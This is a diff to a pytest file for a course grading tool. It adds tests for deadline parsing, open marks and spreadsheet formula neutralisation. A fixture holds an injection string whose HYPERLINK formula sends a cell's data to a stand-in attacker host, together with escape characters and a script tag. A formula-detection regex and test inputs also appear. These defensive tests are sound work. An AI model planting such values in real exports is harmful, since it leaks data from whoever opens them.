@@ -12,13 +12,13 @@ import pytest
 
 from helpers.config.settings import COURSE_FOLDER
 from instructor.grading import oddities, open_marks, pages, platforms, tables
-from instructor.grading.command import _forget, _of_notebook, write_all
+from instructor.grading.command import _forget, _moment, _of_notebook, write_all
 from instructor.grading.late import add_times
 from instructor.grading.papers import read_paper
 from instructor.grading.submissions import Submission
 from instructor.notebooks.student_edition import answer_cells
 
-FORMULA = re.compile(r"(^|[,;|\t\r\n])[ \"]*[=+@-]")
+FORMULA = re.compile(r"(^|[,;|\t\r\n])[ \"]*[=+@＝＋－＠-]")
 HOSTILE = 'oops;=HYPERLINK("http://evil.example/"&A1,"see");\x1b[31m\x00 \u202e <script>alert(1)</script>'
 ESSAY = (
     "**Your answer to Think! 1.10**\n\n"
@@ -67,7 +67,7 @@ def rows_of(path, encoding="utf-8-sig", delimiter=","):
 
 
 @pytest.mark.parametrize(
-    "text", ["=1+1", "+1", "-1", "@x", "\t=1", "  =1", "\r=1", "a; =1", 'a\t"=1', "x|-1"]
+    "text", ["=1+1", "+1", "-1", "@x", "\t=1", "  =1", "\r=1", "a; =1", 'a\t"=1', "x|-1", "＝1"]
 )
 def test_no_field_is_a_formula_in_any_separator(text):
     made = tables.harmless(text)
@@ -171,9 +171,10 @@ def test_what_could_not_be_graded_waits_and_can_be_marked(tmp_path):
     assert tables.sums([broken])["final"]
 
 
-def test_a_mark_that_no_run_gave_is_listed_for_a_person(tmp_path):
+@pytest.mark.parametrize("status", ["not graded", "needs a look"])
+def test_a_mark_that_no_run_gave_is_listed_for_a_person(tmp_path, status):
     path = tmp_path / "open_marks.csv"
-    one = result(marks=[mark(got=None, status="not graded", message="the runner was disturbed")])
+    one = result(marks=[mark(got=None, status=status, message="the runner was disturbed")])
     open_marks.take_open_marks([one], path)
     assert rows_of(path)[1][:2] == ["Ana", "1.5 Normalise a slice"]
     assert any("1.5 was not graded: the runner" in reason for reason in tables.reasons_to_look([one]))
@@ -456,6 +457,16 @@ def test_the_most_that_is_taken_off():
         due = datetime(2026, 11, 20)
         add_times(results, {"Ana": datetime.fromtimestamp(due.timestamp() + 3600 * hours)}, due, (10, 50))
         assert (results[0]["late"] or {"got": 0})["got"] == percent
+    with pytest.raises(Exception, match="Give --due"):
+        add_times(results, {}, None, (10, 50))
+
+
+@pytest.mark.parametrize(
+    ("text", "due"),
+    [("2026-11-20T18:00", datetime(2026, 11, 20, 18)), ("2026-11-20", datetime(2026, 11, 20, 23, 59, 59))],
+)
+def test_a_deadline_without_a_time_is_the_end_of_the_day(text, due):
+    assert _moment(text) == due
 
 
 def test_the_time_of_a_download_makes_nobody_late(tmp_path):
@@ -561,19 +572,12 @@ def test_the_feedback_shows_a_free_text_answer_with_its_rubric_and_comment(tmp_p
 
 
 def test_one_notebook_alone():
+    wrong = "x.pdf is not a notebook"
     found = [
-        Submission(
-            "Ana",
-            "ana",
-            None,
-            "01_tiny",
-            None,
-            problem="x.pdf is not a notebook",
-            notes=["x.pdf is not a notebook"],
-        ),
-        Submission("Ana", "ana", None, "02_tiny", None, problem="was not submitted"),
-        Submission("Bo", "bo", None, "01_tiny", None, problem="was not submitted"),
-        Submission("Bo", "bo", None, "02_tiny", b"{}"),
+        Submission("Ana", "ana", None, "01_tiny", problem=wrong, notes=[wrong]),
+        Submission("Ana", "ana", None, "02_tiny", problem="was not submitted"),
+        Submission("Bo", "bo", None, "01_tiny", problem="was not submitted"),
+        Submission("Bo", "bo", None, "02_tiny", path="Bo/02.ipynb"),
     ]
     assert [one.problem for one in _of_notebook(found, "02")] == ["x.pdf is not a notebook", None]
     with pytest.raises(Exception, match="01_tiny, 02_tiny"):
